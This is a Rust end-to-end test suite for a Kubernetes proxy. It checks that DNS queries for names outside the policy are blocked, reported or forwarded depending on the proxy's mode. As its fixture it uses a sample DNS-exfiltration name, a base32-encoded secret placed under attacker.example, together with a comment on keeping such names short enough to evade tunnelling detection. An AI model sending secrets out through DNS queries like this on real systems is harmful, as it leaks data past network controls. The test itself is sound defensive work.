//! DNS exfiltration by name, end to end (`spec.dns.allowedNames: listed`).
//!
//! A query is data leaving the pod: `<secret>.attacker.example` reaches the
//! attacker's authoritative server even if the connection that would follow
//! is blocked. With `listed`, protect answers such a name NXDOMAIN in the
//! proxy and the query goes nowhere; monitor forwards it and reports it;
//! learn forwards it. Checked where the query would arrive: the resolver in
//! the server namespace (198.51.100.10) logs every query it receives and an
//! iptables counter counts the UDP packets reaching its port 53.
//!
//! The pod's resolv.conf is a Kubernetes one (`search` domains, `ndots:5`),
//! so the app's own resolver first asks for `api.example.test.shop.svc.
//! cluster.local` and friends: those get NXDOMAIN from the proxy and the
//! stub moves on to the listed name, as it would with the cluster DNS;
//! being the stub's own tries of a listed name, they are not reported.

use std::time::Duration;

use podwarden_e2e::drive::dns_server;
use podwarden_e2e::l7::{events, wait_event};
use podwarden_e2e::{require, servers, Counter, Topology, APP_UID, SERVER, UNKNOWN};
use serde_json::Value;

const BIN: &[&str] = &["podwarden-proxy"];
const NAME: &str = "api.example.test";
/// A secret (base32 "secret-token") carried as a label: what exfiltration
/// by name looks like, short enough not to trip the tunnelling heuristics,
/// so only the name policy stands in its way.
const LEAK: &str = "onswg4tfoqwxi33lmvxa.attacker.example";
const REASON: &str = "dns: name not in policy";

/// `allowed_names` is the `allowedNames` value, or `None` to leave the
/// setting out (a policy written before it existed).
fn policy(mode: &str, version: u32, allowed_names: Option<&str>) -> String {
    let names = allowed_names
        .map(|v| format!(", allowedNames: {v}"))
        .unwrap_or_default();
    format!(
        r#"apiVersion: podwarden.io/v1alpha1
kind: WorkloadPolicy
metadata: {{ workload: shop/web, version: {version} }}
spec:
  mode: {mode}
  dns: {{ resolvers: ["{server}"]{names} }}
  rules:
    - id: dns
      note: the cluster resolver
      direction: outbound
      peer: {{ cidr: {server}/32 }}
      ports: ["53"]
      protocols: [dns]
    - id: api
      note: the API, by name
      direction: outbound
      peer: {{ fqdn: {NAME} }}
      ports: ["8000"]
"#,
        server = SERVER.v4,
    )
}

/// The pod with the proxy in `mode` and `allowedNames: listed`, the API
/// and its resolver in the server namespace; `None` when skipped.
fn world(test: &str, mode: &str) -> Option<Topology> {
    if !require(test, &["dig", "curl", "getent", "python3"], BIN) {
        return None;
    }
    let t = Topology::new().unwrap();
    servers::http(
        &t.server,
        &t.scratch,
        "web",
        8000,
        &[("ok.txt", "allowed\n")],
    )
    .unwrap();
    let records = [
        format!("{NAME}={}", SERVER.v4),
        // So that monitor's forwarded query gets a real answer.
        format!("{LEAK}={}", UNKNOWN.v4),
    ];
    dns_server(&t.server, "dns", &records).unwrap();
    t.pod
        .set_resolv_conf(&format!(
            "nameserver {}\nsearch shop.svc.cluster.local svc.cluster.local cluster.local\noptions ndots:5 timeout:10 attempts:1\n",
            SERVER.v4
        ))
        .unwrap();
    let file = t
        .scratch
        .write("policy.yaml", &policy(mode, 1, Some("listed")))
        .unwrap();
    let server = SERVER.v4.to_string();
    t.start_proxy(&[
        "--policy-file",
        &file.display().to_string(),
        "--workload",
        "shop/web",
        "--pod",
        "web-0",
        "--dns-upstream",
        &server,
    ])
    .unwrap_or_else(|e| panic!("{e:#}\n{}", t.logs()));
    t.pod.wait_udp_bound(15053, podwarden_e2e::READY).unwrap();
    t.init(&["--dns-resolver", &server]).unwrap();
    Some(t)
}

/// `dig` as the app, through the pod's resolver address (redirected to the
/// proxy by `init`); its full output.
fn dig(t: &Topology, args: &[&str]) -> String {
    let server = format!("@{}", SERVER.v4);
    let mut argv = vec!["dig", "+tries=1", "+time=10", server.as_str()];
    argv.extend_from_slice(args);
    t.pod.exec_as(Some(APP_UID), &argv).unwrap()
}

/// What the resolver in the server namespace was asked.
fn resolver_log(t: &Topology) -> String {
    t.server.log_of("dns")
}

fn name_event(e: &Value, kind: &str, name: &str) -> bool {
    e["kind"] == kind && e["rule"] == REASON && e["names"][0] == name
}

/// Rewrites the policy file (atomically, as a ConfigMap update does) and
/// waits for the proxy to apply it.
fn switch_policy(t: &Topology, text: &str, version: u64) {
    let tmp = t.scratch.write("policy.tmp", text).unwrap();
    std::fs::rename(tmp, t.scratch.path("policy.yaml")).unwrap();
    wait_event(t, &format!("policy_reload ok v{version}"), |e| {
        e["kind"] == "policy_reload" && e["result"] == "ok" && e["version"] == version
    })
    .unwrap();
}

#[test]
fn protect_answers_unlisted_names_itself_and_the_resolver_never_hears_them() {
    let Some(t) = world(
        "protect_answers_unlisted_names_itself_and_the_resolver_never_hears_them",
        "protect",
    ) else {
        return;
    };
    let to_resolver = Counter::install(
        &t.server,
        false,
        "pw-dns-in",
        &["-p", "udp", "--dport", "53"],
    )
    .unwrap();

    // --- the listed name resolves and the call by name succeeds ---
    let a = dig(&t, &["+short", NAME, "A"]);
    assert_eq!(a.trim(), SERVER.v4.to_string(), "{}", t.logs());
    // glibc, with the search list: the expansions come first.
    let hosts = t
        .pod
        .exec_as(Some(APP_UID), &["getent", "ahostsv4", NAME])
        .unwrap();
    assert!(hosts.contains(&SERVER.v4.to_string()), "{hosts}");
    let body = t
        .app_curl(&[&format!("http://{NAME}:8000/ok.txt")])
        .unwrap_or_else(|e| panic!("{e:#}\n{}", t.logs()));
    assert_eq!(body, "allowed\n");
    let rec = t
        .wait_flow("the call by name", |r| {
            r.flow.peer.port() == 8000 && r.decision.rule.as_deref() == Some("api")
        })
        .unwrap();
    assert!(rec.flow.peer_names.iter().any(|n| n == NAME), "{rec:?}");
    // SRV names under a listed name, and the reverse of an address a CIDR
    // rule covers, are forwarded.
    dig(&t, &["SRV", &format!("_http._tcp.{NAME}")]);
    dig(&t, &["-x", &SERVER.v4.to_string()]);
    let log = resolver_log(&t);
    for q in [
        format!("QUERY {NAME} 1 "),
        format!("QUERY _http._tcp.{NAME} 33 "),
        "QUERY 10.100.51.198.in-addr.arpa 12 ".to_string(),
    ] {
        assert!(log.contains(&q), "resolver never got {q:?}:\n{log}");
    }
    // The search-domain expansions were answered by the proxy.
    assert!(!log.contains("cluster.local"), "{log}");

    // --- an unlisted name: NXDOMAIN from the proxy, never forwarded ---
    let before = to_resolver.packets().unwrap();
    let out = dig(&t, &[LEAK, "A"]);
    assert!(out.contains("status: NXDOMAIN"), "{out}");
    let out = dig(&t, &["+tcp", &format!("tcp.{LEAK}"), "A"]);
    assert!(out.contains("status: NXDOMAIN"), "over TCP too: {out}");
    let out = dig(&t, &["-x", "192.0.2.99"]);
    assert!(out.contains("status: NXDOMAIN"), "{out}");
    let failed = t.app_curl(&[&format!("http://{LEAK}:8000/ok.txt")]);
    assert!(failed.is_err(), "{failed:?}");
    // Give a stray forwarded packet time to arrive before counting.
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(
        to_resolver.packets().unwrap(),
        before,
        "a query for an unlisted name reached the resolver"
    );
    let log = resolver_log(&t);
    assert!(!log.contains("attacker"), "{log}");
    assert!(!log.contains("99.2.0.192"), "{log}");

    // --- reported, naming the name and why ---
    let e = wait_event(&t, "violation for the unlisted name", |e| {
        name_event(e, "violation", LEAK)
    })
    .unwrap();
    assert_eq!(e["action"], "blocked", "{e}");
    assert_eq!(e["mode"], "protect", "{e}");
    assert_eq!(e["details"]["reason"], REASON, "{e}");
    assert_eq!(e["details"]["answer"], "NXDOMAIN", "{e}");
    // The stub resolver's search-domain tries for the listed name (answered
    // NXDOMAIN above) are not reported: that event came later, so the
    // stream has caught up past them.
    let tries: Vec<Value> = events(&t)
        .into_iter()
        .filter(|e| {
            e["names"][0]
                .as_str()
                .is_some_and(|n| n.starts_with(NAME) && n.ends_with("cluster.local"))
        })
        .collect();
    assert!(tries.is_empty(), "search-path tries reported: {tries:?}");

    // --- without the setting, the same policy forwards every name: a
    // policy written before `allowedNames` keeps working ---
    switch_policy(&t, &policy("protect", 2, None), 2);
    let out = dig(&t, &["+short", LEAK, "A"]);
    assert_eq!(out.trim(), UNKNOWN.v4.to_string(), "{out}");
    assert!(resolver_log(&t).contains(&format!("QUERY {LEAK} 1 ")));
}

#[test]
fn monitor_forwards_unlisted_names_and_reports_them_learn_only_forwards() {
    let Some(t) = world(
        "monitor_forwards_unlisted_names_and_reports_them_learn_only_forwards",
        "monitor",
    ) else {
        return;
    };
    let out = dig(&t, &["+short", LEAK, "A"]);
    assert_eq!(out.trim(), UNKNOWN.v4.to_string(), "{}", t.logs());
    assert!(resolver_log(&t).contains(&format!("QUERY {LEAK} 1 ")));
    let e = wait_event(&t, "would_block for the unlisted name", |e| {
        name_event(e, "would_block", LEAK)
    })
    .unwrap();
    assert_eq!(e["action"], "would_block", "{e}");
    assert_eq!(e["details"]["answer"], "forwarded", "{e}");
    // A listed name raises nothing.
    assert_eq!(
        dig(&t, &["+short", NAME, "A"]).trim(),
        SERVER.v4.to_string()
    );

    // Learn: forwarded and recorded, no report.
    switch_policy(&t, &policy("learn", 2, Some("listed")), 2);
    let learned = format!("learn.{LEAK}");
    dig(&t, &[&learned, "A"]);
    assert!(resolver_log(&t).contains(&format!("QUERY {learned} 1 ")));
    // A later monitor-mode event proves the event stream has caught up past
    // the learn-mode query.
    switch_policy(&t, &policy("monitor", 3, Some("listed")), 3);
    let marker = format!("marker.{LEAK}");
    dig(&t, &[&marker, "A"]);
    wait_event(&t, "would_block for the marker", |e| {
        name_event(e, "would_block", &marker)
    })
    .unwrap();
    let about_learned: Vec<Value> = events(&t)
        .into_iter()
        .filter(|e| e["names"][0] == learned.as_str())
        .collect();
    assert!(about_learned.is_empty(), "{about_learned:?}");
    assert!(
        !events(&t)
            .iter()
            .any(|e| e["rule"] == REASON && e["names"][0] == NAME),
        "a listed name was reported"
    );
}
